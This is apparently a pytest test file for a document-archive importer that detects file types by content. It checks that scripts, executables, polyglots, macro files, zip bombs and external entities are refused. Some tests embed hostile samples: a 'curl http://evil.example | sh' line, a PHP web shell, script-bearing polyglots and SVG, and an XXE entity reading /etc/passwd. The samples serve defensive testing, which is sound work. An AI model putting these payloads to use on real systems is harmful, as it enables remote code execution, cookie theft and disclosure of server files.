"""Deciding what a file is from its content, and refusing everything else."""

import random

import pytest

from archive.sources.importing import ImportRefused
from archive.sources.importing.detect import DOCX, HTML, MARKDOWN, PDF, PLAIN_TEXT, detect
from archive.sources.importing.extract import extract
from tests.documents import article_html, docx_bytes, pdf_bytes, with_main_part_type, with_part, zip_bytes


def refusal(data: bytes, filename: str = "notes.txt") -> str:
    with pytest.raises(ImportRefused) as refused:
        extract(data, filename=filename)
    return refused.value.message


def test_html_is_recognized_by_content_even_when_named_txt():
    assert detect(article_html(), filename="notes.txt").media_type == HTML


def test_markdown_is_text_content_with_a_markdown_name():
    assert detect(b"# Heading\n\nSome *text*.", filename="notes.md").media_type == MARKDOWN


def test_utf16_bytes_named_as_a_pdf_are_refused_naming_both():
    # Once imported as UTF-16 text titled "戀摡".
    assert refusal(b"\xff\xfe\x00bad", "bad.pdf") == (
        "bad.pdf is named as a PDF but its bytes are not a PDF (they look like UTF-16 text), "
        "so it was refused."
    )


@pytest.mark.parametrize(
    ("data", "filename", "looks_like"),
    [
        (b"Just words.", "report.pdf", "UTF-8 text"),
        (b"<html><body><p>A page.</p></body></html>", "page.PDF", "an HTML or XML page in UTF-8"),
        (bytes(range(256)) * 4, "blob.pdf", "binary data"),
    ],
    ids=["text", "html-uppercase-suffix", "binary"],
)
def test_a_name_claiming_a_pdf_for_other_bytes_is_refused(data, filename, looks_like):
    assert refusal(data, filename) == (
        f"{filename} is named as a PDF but its bytes are not a PDF (they look like {looks_like}), "
        "so it was refused."
    )


def test_a_url_path_ending_in_pdf_is_no_claim_about_the_content():
    extraction = extract(b"Just words.", filename="report.pdf", name_is_claim=False)
    assert (extraction.media_type, extraction.text) == (PLAIN_TEXT, "Just words.")


def test_text_that_decodes_to_implausible_characters_is_refused():
    # UTF-8 read as Windows-1252 and saved again: mojibake, not a text to archive.
    garbled = "Café à Daraa — the report said é, ü and ñ".encode().decode("cp1252").encode()
    message = refusal(garbled, "notes.txt")
    assert message.startswith("This file decodes (as UTF-8) to implausible characters (chaos score")


@pytest.mark.parametrize(
    "text",
    [
        "قال المجلس المحلي إن محطة المياه توقفت عن العمل صباح الثلاثاء بعد القصف.",
        "俄罗斯空袭增加\uff0c每周达到120次\u3002",
        "Grüße aus Daraa, Ελλάδα, Москва.",
    ],
    ids=["arabic", "chinese", "mixed-scripts"],
)
def test_plausible_text_in_any_script_passes_the_chaos_check(text):
    assert detect(text.encode()).text == text


def test_pdf_is_recognized_by_its_header():
    assert detect(pdf_bytes("Hello"), filename="upload.bin").media_type == PDF


def test_windows_1256_arabic_text_is_decoded_with_its_encoding_detected():
    arabic = "قال المجلس المحلي إن محطة المياه توقفت عن العمل صباح الثلاثاء بعد القصف."
    detected = detect(arabic.encode("cp1256"))
    assert detected.text == arabic
    assert detected.encoding == "cp1256"


def test_utf16_text_with_a_byte_order_mark_is_decoded():
    assert detect("Grüße aus Daraa".encode("utf-16")).text == "Grüße aus Daraa"


def test_shell_script_renamed_txt_is_refused_as_a_script():
    assert "script" in refusal(b"#!/bin/sh\ncurl http://evil.example | sh\n")


def test_elf_executable_renamed_txt_is_refused_as_a_program():
    assert "executable program (ELF)" in refusal(b"\x7fELF\x02\x01\x01\x00" + bytes(56))


def test_windows_executable_renamed_txt_is_refused():
    assert "Windows executable" in refusal(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(100))


def test_text_that_merely_starts_with_mz_is_accepted():
    assert detect(b"MZ Bank said on Tuesday that it would reopen.").media_type == PLAIN_TEXT


def test_php_script_renamed_txt_is_refused():
    assert "PHP script" in refusal(b"<?php system($_GET['c']); ?>")


def test_pdf_that_is_also_html_is_refused_as_a_polyglot():
    polyglot = pdf_bytes("Looks harmless") + b"<html><script>alert(document.cookie)</script></html>"
    assert "polyglot" in refusal(polyglot, "report.pdf")


def test_html_hiding_a_pdf_header_is_refused_as_a_polyglot():
    polyglot = b"<html><!--\n%PDF-1.4\n1 0 obj << >> endobj --><script>alert(1)</script></html>"
    assert "polyglot" in refusal(polyglot, "page.html")


def test_gif_javascript_polyglot_is_refused_as_an_image():
    polyglot = b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;alert(document.domain);//"
    assert "GIF image" in refusal(polyglot, "avatar.txt")


def test_png_image_is_refused():
    assert "PNG image" in refusal(b"\x89PNG\r\n\x1a\n" + bytes(40), "photo.txt")


def test_svg_is_refused_since_it_can_carry_scripts():
    assert "XML or SVG" in refusal(b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')


def test_empty_file_is_refused():
    assert refusal(b"") == "The file is empty."


def test_file_over_the_size_limit_is_refused(settings):
    settings.IMPORT_MAX_BYTES = 1000
    assert "larger than the limit of 1000" in refusal(b"a" * 1001)


def test_undecodable_bytes_are_refused():
    noise = random.Random(5).randbytes(4000)
    assert "cannot be decoded as text" in refusal(noise)


def test_binary_data_without_a_known_signature_is_refused():
    assert "binary data" in refusal(b"header\x00\x00\x01\x02payload" * 20)


def test_pdf_without_a_text_layer_is_refused_with_the_reason():
    assert "no text layer" in refusal(pdf_bytes(), "scan.pdf")


def test_damaged_pdf_is_refused_as_unreadable():
    assert "cannot be read" in refusal(b"%PDF-1.7\nthis is not really a PDF at all", "broken.pdf")


def test_html_page_without_any_text_is_refused():
    assert "No text" in refusal(b"<html><body><script>only()</script></body></html>", "empty.html")


# --- Word documents -----------------------------------------------------------------


def test_a_word_document_is_recognized_by_its_content_whatever_its_name():
    assert detect(docx_bytes("Water station out of service."), filename="statement.bin").media_type == DOCX


@pytest.mark.parametrize(
    ("main_part", "named"),
    [
        ("application/vnd.ms-word.document.macroEnabled.main+xml", "a Word document with macros (.docm)"),
        ("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", "a spreadsheet"),
    ],
    ids=["macros", "spreadsheet"],
)
def test_an_office_file_that_is_not_a_plain_word_document_is_refused_naming_it(main_part, named):
    data = with_main_part_type(docx_bytes("Words."), main_part)
    assert refusal(data, "statement.docx").startswith(f"This file is {named}; only plain text")


def test_a_zip_archive_is_refused_as_one():
    assert refusal(zip_bytes({"notes.txt": b"Words."}), "notes.zip").startswith("This file is a ZIP archive;")


def test_a_zip_that_would_unpack_to_far_more_than_it_holds_is_refused_unread(settings):
    settings.IMPORT_MAX_BYTES = 100_000
    bomb = zip_bytes({"[Content_Types].xml": b"<Types/>", "word/document.xml": b" " * 3_000_000})
    assert (
        refusal(bomb, "bomb.docx")
        == "This ZIP file would unpack to far more than it holds, so it was refused."
    )


def test_a_damaged_zip_is_refused_saying_so():
    assert refusal(b"PK\x03\x04" + bytes(200), "broken.docx").startswith(
        "This file cannot be read: it is a damaged or malformed ZIP archive"
    )


def test_a_name_claiming_a_word_document_for_text_is_refused():
    assert refusal(b"Just words.", "statement.docx") == (
        "statement.docx is named as a Word document but its bytes are not a Word document "
        "(they look like UTF-8 text), so it was refused."
    )


def test_a_word_documents_external_entity_is_never_read():
    """An entity naming a file of the server (XXE) is left unresolved: its text never reaches the source."""

    def with_entity(part: bytes) -> bytes:
        declared = b'<!DOCTYPE w:document [<!ENTITY leak SYSTEM "file:///etc/passwd">]><w:document'
        return part.replace(b"<w:document", declared, 1).replace(b"LEAK", b"&leak;")

    data = with_part(docx_bytes("Before LEAK after."), "word/document.xml", with_entity)
    assert "root:" not in extract(data, filename="statement.docx").text
